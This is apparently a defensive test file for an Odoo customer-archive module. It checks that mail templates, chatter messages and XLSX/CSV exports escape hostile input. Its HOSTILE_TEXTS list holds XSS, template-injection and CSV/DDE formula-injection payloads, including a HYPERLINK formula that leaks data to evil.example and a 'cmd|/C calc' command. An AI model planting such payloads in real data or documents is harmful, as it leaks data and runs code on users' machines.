"""Hostile text typed into the archive comes out inert: escaped, never run."""

import csv
import io
import json

import openpyxl

from odoo import http
from odoo.tests import HttpCase, tagged

from .common import ArchiveCase

HOSTILE_TEXTS = (
    '<script>alert("x")</script><img src=x onerror=alert(1)>',
    '<t t-out="object.email"/>',
    "{{ object.email }}",
    "${object.email}",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "external:\\\\evil.example\\share\\run.exe",
)
EMAIL = "secret.customer@example.com"


@tagged("post_install", "-at_install")
class TestHostileTextInMessages(ArchiveCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.hostile = cls._create_customer(HOSTILE_TEXTS[0], email=EMAIL)

    def _assert_inert(self, html):
        self.assertNotIn("<script", html)
        self.assertNotIn("<img", html)
        self.assertNotIn("<t t-out", html)
        self.assertIn("&lt;script&gt;", html)

    def test_mail_templates_escape_customer_name(self):
        templates = self.env["mail.template"].search(
            [("model", "=", "res.partner"), ("name", "like", "Customer Archive:")]
        )
        self.assertTrue(templates)
        for name in HOSTILE_TEXTS[:4]:
            self.hostile.name = name
            for template in templates:
                with self.subTest(template=template.name, name=name):
                    body = template._render_field("body_html", self.hostile.ids)[
                        self.hostile.id
                    ]
                    subject = template._render_field("subject", self.hostile.ids)[
                        self.hostile.id
                    ]
                    self.assertNotIn("<script", body)
                    self.assertNotIn("<t t-out", body)
                    # Template syntax in the name is printed, not evaluated.
                    self.assertNotIn(EMAIL, body)
                    self.assertNotIn(EMAIL, subject)

    def test_mail_template_body_escapes_markup(self):
        self.hostile.name = HOSTILE_TEXTS[0]
        template = self.env.ref("customer_archive.mail_template_birthday_greeting")
        body = template._render_field("body_html", self.hostile.ids)[self.hostile.id]
        self._assert_inert(body)

    def test_invitation_escapes_event_name(self):
        self.hostile.name = "Li Lei"
        template = self.env.ref("customer_archive.mail_template_event_invitation")
        rendered = template.with_context(
            archive_event_name=HOSTILE_TEXTS[0] + " " + HOSTILE_TEXTS[2]
        )._render_field("body_html", self.hostile.ids)[self.hostile.id]
        self._assert_inert(rendered)
        self.assertNotIn(EMAIL, rendered)

    def _submitted_request(self):
        request = (
            self.env["customer.archive.consultation"]
            .with_user(self.user)
            .create(
                {
                    "partner_ids": [(6, 0, self.customer.ids)],
                    "purpose": HOSTILE_TEXTS[0],
                    "date_from": "2026-03-01 08:00:00",
                    "date_to": "2026-03-03 18:00:00",
                }
            )
        )
        request.action_submit()
        return request

    def _message_starting(self, request, start):
        messages = request.message_ids.filtered(
            lambda m: m.body and str(m.body).startswith(f"<p>{start}")
        )
        self.assertEqual(len(messages), 1)
        return messages

    def test_rejection_reason_posted_as_text(self):
        request = self._submitted_request()
        wizard = (
            self.env["customer.archive.consultation.reject.wizard"]
            .with_user(self.manager)
            .create({"consultation_ids": [(6, 0, request.ids)], "reason": "x"})
        )
        wizard.reason = HOSTILE_TEXTS[0] + " " + HOSTILE_TEXTS[1]
        wizard.action_reject()
        body = str(self._message_starting(request, "Rejected by").body)
        self._assert_inert(body)
        self.assertIn("&lt;t t-out", body)

    def test_approval_message_escapes_manager_name(self):
        self.manager.name = HOSTILE_TEXTS[0]
        request = self._submitted_request()
        request.with_user(self.manager).action_approve()
        body = str(self._message_starting(request, "Approved by").body)
        self._assert_inert(body)

    def test_duplicate_warning_is_plain_text_field(self):
        self.customer.name = HOSTILE_TEXTS[0]
        twin = self._create_customer("Twin", "138 0013 8000")
        self.assertEqual(twin._fields["archive_duplicate_warning"].type, "text")
        view = self.env["res.partner"].get_views([(False, "form")])["views"]["form"]
        self.assertNotIn('name="archive_duplicate_warning" widget="html"', view["arch"])
        self.assertIn(HOSTILE_TEXTS[0], twin.archive_duplicate_warning)


@tagged("post_install", "-at_install")
class TestHostileTextInExports(ArchiveCase, HttpCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.hostile = cls.env["res.partner"].create(
            [{"name": text} for text in HOSTILE_TEXTS]
        )

    def _export(self, kind):
        self.authenticate(self.user.login, f"{self.user.login}-password")
        params = {
            "model": "res.partner",
            "fields": [{"name": "name", "label": "Name"}],
            "ids": self.hostile.ids,
            "domain": [],
            "groupby": [],
            "import_compat": False,
        }
        response = self.url_open(
            f"/web/export/{kind}",
            data={
                "data": json.dumps(params),
                "csrf_token": http.Request.csrf_token(self),
            },
        )
        self.assertEqual(response.status_code, 200)
        return response.content

    def test_xlsx_export_writes_text_only(self):
        workbook = openpyxl.load_workbook(io.BytesIO(self._export("xlsx")))
        cells = [row[0] for row in workbook.active.iter_rows(min_row=2)]
        self.assertEqual(sorted(c.value for c in cells), sorted(HOSTILE_TEXTS))
        for cell in cells:
            with self.subTest(value=cell.value):
                self.assertEqual(cell.data_type, "s")
                self.assertIsNone(cell.hyperlink)

    def test_csv_export_quotes_formula_starts(self):
        text = self._export("csv").decode("utf-8-sig")
        values = [row[0] for row in csv.reader(io.StringIO(text))][1:]
        self.assertEqual(len(values), len(HOSTILE_TEXTS))
        for value in values:
            with self.subTest(value=value):
                self.assertFalse(value.startswith(("=", "+", "-", "@")))
